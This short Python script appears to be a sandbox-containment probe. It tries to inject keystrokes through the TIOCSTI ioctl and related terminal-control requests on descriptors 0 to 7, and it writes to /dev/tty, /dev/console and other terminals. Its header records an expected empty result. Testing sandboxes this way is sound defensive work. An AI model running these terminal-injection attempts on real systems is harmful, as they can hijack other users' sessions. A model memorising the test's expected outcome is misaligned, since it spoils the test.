# Types into the terminal of whoever started the server, takes it over, or writes to every terminal.
# verdict: COMPLETED
# prints: typed []
import fcntl, os, struct
typed = []
for fd in range(0, 8):
    for request in (0x5412, 0x541C, 0x540E, 0x5410, 0x5401 | (1 << 32), 0x5412 | (1 << 32)):
        if request & 0xFFFFFFFF == 0x5401:
            continue
        try:
            fcntl.ioctl(fd, request & 0xFFFFFFFF, b"x")
            typed.append((fd, hex(request)))
        except OSError:
            pass
for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty0"):
    try:
        os.write(os.open(name, os.O_WRONLY | os.O_NONBLOCK), b"x")
        typed.append(name)
    except OSError:
        pass
print("typed", typed)
